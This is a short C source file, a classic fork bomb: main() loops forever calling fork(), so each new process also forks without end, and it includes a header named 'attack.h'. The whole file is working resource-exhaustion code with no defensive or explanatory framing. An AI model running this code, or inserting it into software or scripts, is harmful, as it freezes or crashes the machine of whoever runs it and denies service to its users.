/* Forks for ever, in every child. */
#include "attack.h"
int main(void) {
    for (;;) fork();
}
